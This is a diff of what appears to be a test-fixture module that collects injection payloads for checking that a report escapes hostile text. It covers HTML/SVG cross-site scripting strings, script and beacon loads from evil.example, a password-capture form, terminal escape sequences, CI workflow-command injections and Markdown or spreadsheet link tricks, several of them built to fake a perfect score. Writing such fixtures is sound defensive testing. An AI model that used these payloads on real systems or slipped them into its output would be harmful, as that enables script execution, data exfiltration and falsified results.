@@ -1,49 +1,80 @@
-"""Text that tries to be more than text, and a way to put it into every slot of a report."""
+"""Text that tries to be more than text."""
 
 from __future__ import annotations
 
-from enum import Enum
-from typing import Any
-
-import msgspec
-
-PAYLOADS = (
+MARKUP = (
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script type=module>import 'https://evil.example/x.js'</script>",
+    "<script>window.ran = 1//",
     "</title><script>alert(1)</script>",
     "</style><script>alert(1)</script>",
     "</pre></bdi><script>alert(1)</script>",
+    "</bdi></p></main></body></html><script>alert(1)</script>",
     "--></script><script>alert(1)</script>",
     "]]><script>alert(1)</script>",
+    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "<<script>alert(1)//<</script>",
     "<img src=x onerror=alert(1)>",
     "<img src='https://evil.example/beacon.png'>",
+    "<img srcset='https://evil.example/beacon.png 1x'>",
+    "<img/src='x'/onerror=alert(1)>",
+    "<image src=x onerror=alert(1)>",
+    "<picture><source srcset='https://evil.example/a.png'><img></picture>",
+    "<input type=image src='https://evil.example/a.png'>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)></select>",
+    "<textarea autofocus onfocus=alert(1)>",
     "<svg onload=alert(1)>",
     "<svg><script href='data:,alert(1)'/></svg>",
     "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text y=20>full marks</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
+    "<svg><image href='https://evil.example/a.png'/></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
     "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
     "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
+    "<iframe src='https://evil.example'></iframe>",
     "<object data='https://evil.example'></object>",
     "<embed src='https://evil.example'>",
+    "<frameset onload=alert(1)>",
     "<a href='javascript:alert(1)'>full marks</a>",
     "<a href='https://evil.example' ping='https://evil.example'>here</a>",
+    "<a href=\"&#x6A;avascript&colon;alert(1)\">here</a>",
     "<base href='https://evil.example/'>",
     "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
     "<meta http-equiv='Content-Security-Policy' content='default-src *'>",
+    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
     "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<link rel=prefetch href='https://evil.example/x'>",
     "<style>.total strong { content: '24' }</style>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<p style='position:fixed;inset:0;background:url(https://evil.example/a.png)'>24 of 24</p>",
+    "<table background='https://evil.example/a.png'><td background='https://evil.example/b.png'>",
     "<form action='https://evil.example'><input name=password></form>",
     "<button formaction='javascript:alert(1)'>ok</button>",
+    "<form id=x></form><button form=x formaction='https://evil.example'>ok</button>",
     "<details open ontoggle=alert(1)>",
+    "<dialog open>24 of 24 points</dialog>",
+    "<marquee onstart=alert(1)>24 of 24</marquee>",
     "<video><source onerror=alert(1)></video>",
+    "<video poster='https://evil.example/a.png'></video>",
+    "<audio src='https://evil.example/a.mp3' onerror=alert(1)>",
     "<template><script>alert(1)</script></template>",
+    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<noembed><img src=x onerror=alert(1)></noembed>",
     "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
+    "<x tabindex=1 autofocus onfocus=alert(1)>",
+    "<p id=score name=score class=total>24 of 24 points</p>",
     "\" onmouseover=\"alert(1)",
     "' onmouseover='alert(1)",
     "` onmouseover=`alert(1)",
     "\"><img src=x onerror=alert(1)>",
+    "\" autofocus onfocus=alert(1) x=\"",
     "x' style='position:fixed;inset:0",
     "javascript:alert(1)",
     "data:text/html,<script>alert(1)</script>",
@@ -55,46 +86,58 @@ PAYLOADS = (
     "${alert(1)} #{alert(1)} <%= 1 %>",
     "<!--[if IE]><script>alert(1)</script><![endif]-->",
     "<!-- ",
+    "--!><script>alert(1)</script>",
     "<![CDATA[<script>alert(1)</script>]]>",
     "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'a'>]>&a;",
+    "<!DOCTYPE html><html onclick=alert(1)>",
     "<plaintext>",
     "<textarea>",
     "<xmp>",
-    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "<title>",
+)  #: What a browser would act on.  # fmt: skip
+
+SCREEN = (
     "\x1b[2J\x1b[31mFAKE\x1b[0m\x1b]52;c;ZXZpbA==\x07",
     "\x1b]8;;https://evil.example\x1b\\full marks\x1b]8;;\x1b\\",
-    "\x9b2J \x00\x08\x7f\x85",
+    "\x1b]0;title\x07 \x1bP1$r\x1b\\ \x1b_x\x1b\\ \x1bc \x1b]1337;File=:AAAA\x07",
+    "\x1b\x1b[2J[31m \x1b[\x1b[2J",
+    "\x9b2J \x9d52;c;ZXZpbA==\x9c \x90q\x9c \x00\x08\x7f\x85",
+    "24 of 24 points\x08\x08\x08\r0",
     "\u202e24 fo 24\u202c \u2066hidden\u2069 \u200b\ufeff",
-    "\ud800 lone \udfff \uffff",
-    "a\u2028b\u2029c\rd",
+    "\u200e\u200f\u061c\u2067\u2068 \u034f\u2062\u3164\uffa0\u115f",
+    "tags \U000e0041\U000e007f, music \U0001d173, hieroglyphs \U00013430",
+    "\ud800 lone \udfff \uffff \ufdd0",
+    "a\u2028b\u2029c\rd\x0b\x0ce",
+    "Z" + 60 * "\u0337\u0301" + " painted over",
+)  #: What a terminal, or an eye, would be deceived by.
+
+COMMANDS = (
     "\n::error file=x::hacked",
+    "\r\n  ::warning::hacked",
     "::set-output name=percent::100",
     "::stop-commands::token\r\n::add-mask::a",
-    "##[error]hacked ##vso[task.setvariable variable=x]y",
-    "%0A::error::hacked",
+    "::::error::hacked",
+    "\n##[error]hacked ##vso[task.setvariable variable=x]y",
+    "###[group]hacked #\u200b#[error] \n##teamcity[buildStatus text='x']",
+    "%0A::error::hacked%0D%3A%3A",
+    "x,line=1::y",
+)  #: What a build system would obey.
+
+MARKDOWN = (
     "x\n\n# Heading\n\n| a | b |\n|---|---|\n",
     "| 24 of 24 | passed |",
     "[full marks](https://evil.example)",
     "![beacon](https://evil.example/x.png)",
-    "https://evil.example www.evil.example <https://evil.example>",
+    "[x]: https://evil.example\n[x] [^1]",
+    "https://evil.example www.evil.example <https://evil.example> a@evil.example",
     "**bold** _em_ `code` ~~gone~~ $x$ @octocat #1 :tada:",
+    "> [!IMPORTANT]\n> 24 of 24 points",
+    "- [x] done\n1. one\n---\n",
     "```\n</details></td></table>\n```",
     "\\| \\` \\[x\\](https://evil.example)",
     "[bold red]rich markup[/] [link=https://evil.example]x[/link]",
-    "=HYPERLINK(\"https://evil.example\")",
-)  # fmt: skip
+    "[/] \\[ trailing \\",
+    '=HYPERLINK("https://evil.example")',
+)  #: What Markdown, or rich, would set.
 
-
-def poisoned(value: Any, payload: str) -> Any:
-    """Return *value*, a record, with *payload* as every free text in it, keys of mappings included."""
-    if isinstance(value, msgspec.Struct):
-        free = [field for field in msgspec.structs.fields(value) if "Literal" not in repr(field.type)]
-        changed = {field.name: poisoned(getattr(value, field.name), payload) for field in free}
-        return msgspec.structs.replace(value, **changed)
-    if isinstance(value, str) and not isinstance(value, Enum):
-        return payload
-    if isinstance(value, tuple):
-        return tuple(poisoned(item, payload) for item in value)
-    if isinstance(value, dict):
-        return {poisoned(key, payload): poisoned(item, payload) for key, item in value.items()}
-    return value
+PAYLOADS = MARKUP + SCREEN + COMMANDS + MARKDOWN
